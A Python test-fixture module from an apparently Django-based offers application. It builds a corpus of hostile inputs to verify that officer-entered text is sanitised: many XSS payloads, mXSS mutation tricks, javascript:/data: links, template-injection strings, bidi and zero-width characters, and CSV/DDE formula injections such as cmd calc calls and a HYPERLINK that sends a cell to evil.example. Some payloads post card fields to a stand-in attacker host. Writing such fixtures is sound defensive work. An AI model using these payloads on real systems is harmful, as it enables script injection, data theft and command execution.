"""A corpus of hostile text an officer might paste (or an attacker with an officer's login
might type) into any field of an offer: what must never run, and must still read as text.

Each payload holds WORD, a plain word that must still be readable on the page once the
payload has gone through Markdown, nh3 and the templates; tests swap it for a token that
says which payload and which field it came from. The word sits beside the attack, never
inside the part that is meant to be removed (a <script>'s content, a comment, an <img>'s
alt), so a missing word means text was lost, not that the attack was removed.

Tags say what a payload is, for the checks that only apply to some:
- "bidi": has a hidden direction control or zero-width character. Names, headings and web
  or email addresses refuse it (offers.validators.validate_no_hidden_characters); Markdown
  text has it stripped.
- "scheme": a javascript:, data: or vbscript: address; web address fields refuse it.
- "formula": starts like a spreadsheet formula; a CSV cell holding it must be neutralised.
- "long": a word of 5,000 characters; cut to fit fields that are shorter.
- "url" / "email": shaped to pass the document schema's pattern for web or email
  addresses, so the attack reaches an href.
- "template": template syntax that must be shown as typed, never evaluated.
"""

from dataclasses import dataclass, field

WORD = "Readable123"
LONG = 5_000


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    tags: frozenset[str] = field(default_factory=frozenset)

    def __post_init__(self):
        assert WORD in self.text, f"{self.name} has no readable word"


def _p(name: str, text: str, *tags: str) -> Payload:
    return Payload(name, text, frozenset(tags))


JS = "javascript:alert(1)"
W = WORD

PAYLOADS: tuple[Payload, ...] = (
    # --- Script tags ---------------------------------------------------------------------
    _p("script_plain", f"<script>alert(1)</script>{W}"),
    _p("script_upper", f"<SCRIPT>alert(1)</SCRIPT>{W}"),
    _p("script_mixed_case", f"<ScRiPt>alert(1)</sCrIpT>{W}"),
    _p("script_src", f'<script src="https://evil.example/x.js"></script>{W}'),
    _p("script_attributes", f'<script type="module" async defer nonce="x">alert(1)</script>{W}'),
    _p("script_split", f"<scr<script>ipt>alert(1)</scr</script>ipt>{W}"),
    _p("script_unclosed", f"{W} <script>alert(1)"),
    _p("script_in_code_span", f"`<script>alert(1)</script>` {W}"),
    _p("script_entities", f"&lt;script&gt;alert(1)&lt;/script&gt; {W}"),
    _p("textarea_breakout", f"</textarea><script>alert(1)</script>{W}"),
    _p("title_breakout", f"</title><script>alert(1)</script>{W}"),
    _p("attribute_breakout_double", f'"><script>alert(1)</script>{W}'),
    _p("attribute_breakout_single", f"'><script>alert(1)</script>{W}"),
    _p("script_breakout", f"</script><script>alert(1)</script>{W}"),
    _p("noscript_mutation", f'<noscript><p title="</noscript><img src=x onerror=alert(1)>">{W}'),
    # --- Event handlers ------------------------------------------------------------------
    _p("img_onerror", f"<img src=x onerror=alert(1)>{W}"),
    _p("img_onerror_upper", f"<IMG SRC=x ONERROR=alert(1)>{W}"),
    _p("img_onerror_slashes", f"<img/src=x/onerror=alert(1)>{W}"),
    _p("img_onerror_entity", f"<img src=x onerror=&#97;lert(1)>{W}"),
    _p("img_srcset_onerror", f'<img srcset="x 1x" onerror="alert(1)">{W}'),
    _p("svg_onload", f"<svg onload=alert(1)>{W}"),
    _p("body_onload", f"<body onload=alert(1)>{W}"),
    _p("details_ontoggle", f"<details open ontoggle=alert(1)><summary>{W}</summary></details>"),
    _p("div_onmouseover", f'<div onmouseover="alert(1)">{W}</div>'),
    _p("a_onmouseover", f'<a href="https://example.org" onmouseover="alert(1)">{W}</a>'),
    _p("a_onclick", f'<a onclick="alert(1)">{W}</a>'),
    _p("allowed_tag_onclick", f'<p onclick="alert(1)">{W}</p>'),
    _p("strong_autofocus_onfocus", f"<strong tabindex=1 autofocus onfocus=alert(1)>{W}</strong>"),
    _p("input_autofocus_onfocus", f"<input autofocus onfocus=alert(1)>{W}"),
    _p("video_source_onerror", f"<video><source onerror=alert(1)></video>{W}"),
    _p("marquee_onstart", f"<marquee onstart=alert(1)>{W}</marquee>"),
    _p("frameset_onload", f"<frameset onload=alert(1)>{W}"),
    _p("md_title_onmouseover", f'[{W}](https://example.org "x\\" onmouseover=\\"alert(1)")'),
    _p("md_image_onerror", f'![x](x" onerror="alert(1)) {W}'),
    # --- javascript:, data: and vbscript: addresses --------------------------------------
    _p("md_link_javascript", f"[{W}]({JS})", "scheme"),
    _p("md_link_javascript_mixed_case", f"[{W}](JaVaScRiPt:alert(1))", "scheme"),
    _p("md_link_javascript_colon_entity", f"[{W}](javascript&#58;alert(1))", "scheme"),
    _p("md_link_javascript_named_entity", f"[{W}](javascript&colon;alert(1))", "scheme"),
    _p("md_link_javascript_hex_entity", f"[{W}](&#x6A;avascript:alert(1))", "scheme"),
    _p("md_link_javascript_tab", f"[{W}](java\tscript:alert(1))", "scheme"),
    _p("md_link_javascript_newline", f"[{W}](java\nscript:alert(1))", "scheme"),
    _p("md_link_javascript_leading_space", f"[{W}]( {JS})", "scheme"),
    _p("md_link_javascript_angle", f"[{W}](<{JS}>)", "scheme"),
    _p("md_autolink_javascript", f"<{JS}> {W}", "scheme"),
    _p("md_reference_javascript", f"[{W}][evil]\n\n[evil]: {JS}", "scheme"),
    _p(
        "md_link_data_html",
        f"[{W}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "scheme",
    ),
    _p("md_link_vbscript", f"[{W}](vbscript:msgbox(1))", "scheme"),
    _p("html_a_javascript", f'<a href="{JS}">{W}</a>', "scheme"),
    _p(
        "html_a_javascript_decimal_entities",
        f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">{W}</a>',
        "scheme",
    ),
    _p("html_a_javascript_tab_entity", f'<a href="jav&#x09;ascript:alert(1)">{W}</a>', "scheme"),
    _p(
        "html_a_javascript_named_entities",
        f'<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">{W}</a>',
        "scheme",
    ),
    _p("html_a_javascript_leading_control", f'<a href=" &#14; {JS}">{W}</a>', "scheme"),
    _p("html_a_data", f'<a href="data:text/html,<script>alert(1)</script>">{W}</a>', "scheme"),
    _p("html_a_vbscript", f'<a href="VBScript:msgbox(1)">{W}</a>', "scheme"),
    _p("html_a_protocol_relative", f'<a href="//evil.example/">{W}</a>'),
    _p("html_a_dom_clobbering", f'<a id="contents" name="csrfmiddlewaretoken" href="#">{W}</a>'),
    _p("form_action_javascript", f'<form action="{JS}"><button>Go</button></form>{W}', "scheme"),
    _p("button_formaction", f'<button formaction="{JS}">Go</button>{W}', "scheme"),
    _p("math_xlink_href", f'<math><mtext><a xlink:href="{JS}">x</a></mtext></math>{W}', "scheme"),
    # --- Frames, objects and things that change the page around them --------------------
    _p("iframe_srcdoc", f'<iframe srcdoc="<script>alert(1)</script>"></iframe>{W}'),
    _p("iframe_src_javascript", f'<iframe src="{JS}"></iframe>{W}', "scheme"),
    _p("object_data", f'<object data="{JS}"></object>{W}', "scheme"),
    _p("embed_src", f'<embed src="data:text/html,<script>alert(1)</script>">{W}', "scheme"),
    _p("base_href", f'<base href="https://evil.example/">{W}'),
    _p("meta_refresh", f'<meta http-equiv="refresh" content="0;url={JS}">{W}', "scheme"),
    _p("link_stylesheet", f'<link rel="stylesheet" href="https://evil.example/x.css">{W}'),
    _p(
        "form_and_inputs",
        f'<form action="https://evil.example/steal" method="post"><input name="card">'
        f'<input type="submit" value="Pay"></form>{W}',
    ),
    _p("select_option", f"<select><option>{W}</option></select>"),
    _p("dialog_open", f"<dialog open>{W}</dialog>"),
    _p("template_script", f"<template><script>alert(1)</script></template>{W}"),
    _p("xmp_img", f"<xmp><img src=x onerror=alert(1)></xmp>{W}"),
    _p("plaintext_swallows_page", f"{W} <plaintext>"),
    # --- SVG -----------------------------------------------------------------------------
    _p("svg_inline", f'<svg width="2000" height="2000"><circle r="40"/></svg>{W}'),
    _p("svg_script", f"<svg><script>alert(1)</script></svg>{W}"),
    _p(
        "svg_foreign_object",
        f'<svg><foreignObject><iframe src="{JS}"></iframe></foreignObject></svg>{W}',
        "scheme",
    ),
    _p("svg_a_xlink_href", f'<svg><a xlink:href="{JS}"><text>x</text></a></svg>{W}', "scheme"),
    _p("svg_animate_onbegin", f"<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>{W}"),
    _p(
        "svg_set_href",
        f'<svg><a><set attributeName="href" to="{JS}"/><text>x</text></a></svg>{W}',
        "scheme",
    ),
    _p("svg_style_mutation", f'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">{W}'),
    _p("math_mglyph_style", f"{W} <math><mi><mglyph><style><img src=x onerror=alert(1)>"),
    _p(
        "md_image_svg_data",
        f"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) {W}",
        "scheme",
    ),
    # --- CSS -----------------------------------------------------------------------------
    _p("style_tag", f"<style>body{{display:none}}</style>{W}"),
    _p("style_attribute", f'<p style="position:fixed;top:0;left:0;width:100%">{W}</p>'),
    _p("style_expression", f'<span style="width:expression(alert(1))">{W}</span>'),
    _p("style_url_javascript", f'<span style="background:url({JS})">{W}</span>'),
    _p("style_in_svg", f"<svg><style>*{{color:red}}</style></svg>{W}"),
    _p("style_unclosed", f"{W} <style>body{{display:none}}"),
    _p("class_injection", f'<p class="kp-preview-banner govuk-visually-hidden">{W}</p>'),
    # --- Markdown link and image tricks --------------------------------------------------
    _p("md_nested_brackets", f"[[{W}]({JS})](https://example.org)", "scheme"),
    _p("md_title_double_quotes", f'[{W}](https://example.org "a\\"><script>alert(1)</script>")'),
    _p("md_title_single_quotes", f"[{W}](https://example.org 'x\\' onmouseover=alert(1) ')"),
    _p("md_image_javascript", f"![x]({JS}) {W}", "scheme"),
    _p("md_image_title_onerror", f'![x](https://example.org/x.png "\\" onerror=\\"alert(1)") {W}'),
    _p("md_html_inside_bold", f"**<img src=x onerror=alert(1)>** {W}"),
    _p("md_html_block_markdown_attr", f'<div markdown="1">[x]({JS})</div>\n\n{W}', "scheme"),
    _p("md_link_in_heading", f"# [{W}]({JS})", "scheme"),
    _p("md_list_script", f"- <script>alert(1)</script>\n- {W}"),
    _p("md_blockquote_img", f"> <img src=x onerror=alert(1)>\n> {W}"),
    _p("md_code_fence", f"```\n<script>alert(1)</script>\n```\n\n{W}"),
    _p("md_reference_image", f"![x][i] {W}\n\n[i]: {JS}", "scheme"),
    _p("md_link_url_with_quotes", f'[{W}](https://example.org/"onmouseover="alert(1))'),
    _p("md_autolink_with_quotes", f'<https://example.org/"onmouseover="alert(1)> {W}'),
    _p("md_setext_formula", f'{W}\n===\n=HYPERLINK("https://evil.example")'),
    # --- Comments, CDATA and processing instructions -------------------------------------
    _p("comment_script", f"{W} <!-- <script>alert(1)</script> -->"),
    _p("comment_unclosed", f"{W} <!-- <img src=x onerror=alert(1)>"),
    _p("comment_breakout", f"<!--><img src=x onerror=alert(1)>--> {W}"),
    _p("comment_conditional", f"<!--[if gte IE 4]><script>alert(1)</script><![endif]--> {W}"),
    _p("cdata_script", f"<![CDATA[<script>alert(1)</script>]]> {W}"),
    _p("cdata_in_svg", f"<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg> {W}"),
    _p("processing_instruction", f'<?xml-stylesheet href="{JS}"?> {W}', "scheme"),
    # --- Template syntax (shown as typed, never evaluated) -------------------------------
    _p("django_variable", f"{{{{ request.user.password }}}} {W}", "template"),
    _p("django_tag", f"{{% debug %}} {W}", "template"),
    _p("js_template_literal", f"${{alert(1)}} {W}", "template"),
    _p("angular_constructor", f"{{{{constructor.constructor('alert(1)')()}}}} {W}", "template"),
    # --- Unicode direction controls and invisible characters -----------------------------
    _p("bidi_rlo_filename", f"{W} \u202egpj.exe", "bidi"),
    _p("bidi_rlo_in_link", f"[{W}](https://example.org/\u202egpj.exe)", "bidi"),
    _p("bidi_embedding", f"\u202a{W}\u202c \u202bx\u202c", "bidi"),
    _p("bidi_isolates", f"\u2066{W}\u2069 \u2067x\u2069 \u2068y\u2069", "bidi"),
    _p("bidi_marks", f"\u200f{W}\u200e \u061c", "bidi"),
    _p("zero_width_in_scheme", f"[{W}](java\u200bscript:alert(1))", "bidi", "scheme"),
    _p("zero_width_space", f"{W} jav\u200bascript:alert(1)", "bidi"),
    _p("zero_width_joiners", f"{W} \u200d\u200c", "bidi"),
    _p("byte_order_mark", f"\ufeff{W}", "bidi"),
    _p("word_joiner", f"{W}\u2060x", "bidi"),
    # --- Very long words -----------------------------------------------------------------
    _p("long_word", f"{W} " + "A" * LONG, "long"),
    _p("long_bare_url", f"{W} https://example.org/" + "b" * LONG, "long"),
    _p("long_link_text", f"[{W}" + "c" * LONG + "](https://example.org/)", "long"),
    # --- Spreadsheet formulas (CSV injection) --------------------------------------------
    _p("csv_hyperlink", f'=HYPERLINK("https://evil.example/?d="&A1,"{W}")', "formula"),
    _p("csv_plus_cmd", f"+cmd|' /C calc'!A0 {W}", "formula"),
    _p("csv_minus_sum", f"-1+1 {W}", "formula"),
    _p("csv_at_sum", f"@SUM(1+1)*cmd|' /C calc'!A0 {W}", "formula"),
    _p("csv_dde", f"=cmd|' /C calc'!A0 {W}", "formula"),
    _p("csv_tab_prefixed", f"\t=1+1 {W}", "formula"),
    _p("csv_cr_prefixed", f"\r=1+1 {W}", "formula"),
    # --- Shaped to pass the schema's web and email address patterns ----------------------
    _p("url_attribute_breakout", f'https://example.org/"onmouseover="alert(1)"{W}', "url"),
    _p("url_tag_breakout", f"https://example.org/'><svg/onload=alert(1)>{W}", "url"),
    _p("url_script_in_path", f"https://example.org/<script>alert(1)</script>{W}", "url"),
    _p("url_javascript_host", f"http://javascript:alert(1)//{W}", "url"),
    _p("url_query_img", f"https://example.org/?q=<img/src=x/onerror=alert(1)>&w={W}", "url"),
    _p("url_fragment_iframe", f'https://example.org/#"><iframe/src={JS}>{W}', "url"),
    _p("url_userinfo_host", f"https://evil.example\\@example.org/{W}", "url"),
    _p("url_percent_quotes", f"HTTPS://example.org/%22onmouseover=%22alert(1)/{W}", "url"),
    _p("url_template", f"https://example.org/{{{{7*7}}}}/${{alert(1)}}/{W}", "url", "template"),
    _p("email_attribute_breakout", f'{W}"onmouseover="alert(1)"@example.org', "email"),
    _p("email_tag_breakout", f"{W}'><img/src=x/onerror=alert(1)>@example.org", "email"),
    _p("email_javascript_local", f"javascript:alert(1)//{W}@example.org", "email"),
    _p("email_script_domain", f"{W}@<script>alert(1)</script>.example", "email"),
    _p("email_mailto_params", f"{W}@example.org?body=<svg/onload=alert(1)>", "email"),
    _p("email_comment", f"{W}<!--x-->@example.org", "email"),
    _p("email_formula", f'=HYPERLINK("https://evil.example")+{W}@example.org', "email", "formula"),
)

# Values web and email address fields must refuse (besides every "bidi" payload).
BAD_WEB_ADDRESSES = (
    JS,
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "https://example.org/\u202egpj.exe",
    "https://exa\u200bmple.org/",
)
BAD_EMAIL_ADDRESSES = (
    "kinship@example.org\u202e",
    "kin\u200bship@example.org",
    "<script>@example.org",
    JS,
)


def by_name(name: str) -> Payload:
    return next(payload for payload in PAYLOADS if payload.name == name)


assert len({payload.name for payload in PAYLOADS}) == len(PAYLOADS), "payload names repeat"


# --- Putting the corpus into offers ------------------------------------------------------------
# Imported late: the corpus itself is plain data, usable without Django.

import datetime  # noqa: E402
import re  # noqa: E402
from decimal import Decimal  # noqa: E402

from jsonschema import Draft202012Validator  # noqa: E402

TOKEN_RE = re.compile(r"Readable(\d{3})F(\d{2})V(\d+)")


def token(payload_index: int, field_index: int, version: int = 1) -> str:
    """The readable word of one payload in one field, as published in one version."""
    return f"Readable{payload_index:03d}F{field_index:02d}V{version}"


@dataclass(frozen=True)
class TextField:
    """A field an officer writes text into: where it is ("offer", "section" or an entry
    type's key), its name, and the model field (with its validators and limits)."""

    where: str
    name: str
    model_field: object

    @property
    def label(self) -> str:
        return f"{self.where}.{self.name}"


def officer_text_fields() -> tuple[TextField, ...]:
    """Every officer-written text field of the document, read from the models and the entry
    registry: the offer's and sections' document fields and every entry type's fields that
    hold free text (char or text, not a fixed choice)."""
    from django.db import models as db

    from offers.documents import OFFER_FIELDS, SECTION_FIELDS
    from offers.entry_types import ENTRY_TYPES
    from offers.models import Offer, Section

    candidates = [("offer", Offer, name) for name in OFFER_FIELDS]
    candidates += [("section", Section, name) for name in SECTION_FIELDS]
    for entry_type in ENTRY_TYPES:
        candidates += [(entry_type.key, entry_type.model, name) for name in entry_type.fields]
    fields = []
    for where, model, name in candidates:
        model_field = model._meta.get_field(name)
        if isinstance(model_field, db.CharField | db.TextField) and not model_field.choices:
            fields.append(TextField(where, name, model_field))
    return tuple(fields)


def _fits(model_field, value: str) -> bool:
    """Would a published document accept this value here? (The document's own schema.)"""
    from offers.schema import field_schema

    return Draft202012Validator(field_schema(model_field)).is_valid(value)


def placed_value(payload: Payload, field: TextField, word: str, *, clean: bool = False):
    """The payload as this field would hold it, with `word` for WORD; None if a published
    document could not hold it (too long, or not a web or email address where one must be).
    Long words are cut to fit. clean: just the word, in a shape the field accepts."""
    from django.db import models as db

    model_field = field.model_field
    text = payload.text.replace(WORD, word)
    if clean:
        text = word
        if isinstance(model_field, db.URLField):
            text = f"https://example.org/{word}"
        elif isinstance(model_field, db.EmailField):
            text = f"{word}@example.org"
        elif field.name == "phone":
            text = "0161 496 0123"
    if "long" in payload.tags and model_field.max_length:
        text = text[: model_field.max_length]
    return text if _fits(model_field, text) else None


# Kinds cycled through, so sections get the anchors real offers have ("financial-2", ...).
def _kinds():
    from offers.choices import SectionKind

    return list(SectionKind.values)


def _entry_defaults():
    """The fields of each entry type that are not free text (fixed choices, money, dates)."""
    from offers.choices import CourseFormat, Frequency, SocialWorkKind

    return {
        "allowances": {
            "amount": Decimal("190.00"),
            "frequency": Frequency.WEEKLY,
            "means_tested": True,
            "applies_from": datetime.date(2026, 4, 1),
        },
        "social_work_services": {"kind": SocialWorkKind.FORM_K},
        "training_courses": {"format": CourseFormat.BOTH},
        "peer_groups": {"online": True},
    }


@dataclass
class HostileOffer:
    offer: object
    payload_indices: tuple[int, ...]
    # (payload index, field label) pairs a published document cannot hold (too long, or not
    # an address where one must be): those fields keep plain words instead.
    refused_by_schema: set = field(default_factory=set)


def build_hostile_offer(offer, *, indices=None, clean: bool = False, holds=None) -> HostileOffer:
    """Fill `offer` (its working copy) with one section per payload (PAYLOADS[i] for i in
    indices), holding it in the section's fields and in every text field of one entry of
    each type; the offer's own fields take the slice's payloads in turn. Written straight
    through the ORM, as an old row or a careless import could hold them: names and headings
    whose validators refuse some payloads (hidden characters) still get them, to show what a
    page would do. Words carry the payload's index in PAYLOADS and the field's in
    officer_text_fields(), so a page says where each came from.

    clean: the same structure holding only the readable words, to compare pages against.
    holds: if given, only fields for which holds(field) is true get the payloads; the
    others get just their readable words.
    """
    from offers.entry_types import ENTRY_TYPES
    from offers.models import Section

    indices = tuple(range(len(PAYLOADS)) if indices is None else indices)
    fields = officer_text_fields()
    index = {f.label: i for i, f in enumerate(fields)}
    built = HostileOffer(offer, indices)

    def value(p: int, text_field: TextField, fallback: str):
        placed = placed_value(
            PAYLOADS[p],
            text_field,
            token(p, index[text_field.label]),
            clean=clean or (holds is not None and not holds(text_field)),
        )
        if placed is None:
            built.refused_by_schema.add((p, text_field.label))
            return fallback
        return placed

    for i, text_field in enumerate(f for f in fields if f.where == "offer"):
        setattr(offer, text_field.name, value(indices[i % len(indices)], text_field, "Plain words"))
    offer.save()
    offer.sections.all().delete()

    kinds = _kinds()
    defaults = _entry_defaults()
    by_where = {}
    for text_field in fields:
        by_where.setdefault(text_field.where, []).append(text_field)
    sections = Section.objects.bulk_create(
        Section(
            offer=offer,
            kind=kinds[p % len(kinds)],
            order=p,
            **{f.name: value(p, f, f"Section {p}") for f in by_where["section"]},
        )
        for p in indices
    )
    for entry_type in ENTRY_TYPES:
        text_fields = by_where.get(entry_type.key, [])
        entry_type.model.objects.bulk_create(
            entry_type.model(
                section=section,
                order=0,
                **defaults.get(entry_type.key, {}),
                **{
                    f.name: value(p, f, "" if f.model_field.blank else "Plain words")
                    for f in text_fields
                },
            )
            for p, section in zip(indices, sections, strict=True)
        )
    return built


# How the tests lay the corpus out: split between PARTS offers (one section per payload), so
# no page's contents list grows long; version 2 of each changes these fields (short text and
# Markdown, of a section and of entries), so diffs show payloads on both sides.
PARTS = 4
PART_INDICES = tuple(tuple(range(len(PAYLOADS)))[n::PARTS] for n in range(PARTS))
RETOKENED = frozenset(
    {
        "section.heading",
        "section.body",
        "allowances.name",
        "contacts.notes",
        "peer_groups.venue",
        "training_courses.description",
    }
)


def retoken(offer, *, version: int, labels: set[str]) -> int:
    """Give the readable words in these fields of the working copy a new version number, so
    the next publish changes them (and the diff shows the payloads on both sides)."""
    from offers.entry_types import BY_KEY

    def bumped(text: str) -> str:
        return TOKEN_RE.sub(lambda m: token(int(m[1]), int(m[2]), version), text)

    changed = 0
    for section in offer.sections.all():
        names = [label.split(".")[1] for label in labels if label.startswith("section.")]
        for name in names:
            setattr(section, name, bumped(getattr(section, name)))
        section.save(update_fields=names)
        changed += len(names)
        for key in BY_KEY:
            names = [label.split(".")[1] for label in labels if label.startswith(f"{key}.")]
            if not names:
                continue
            for entry in getattr(section, key).all():
                for name in names:
                    setattr(entry, name, bumped(getattr(entry, name)))
                entry.save(update_fields=names)
                changed += len(names)
    return changed
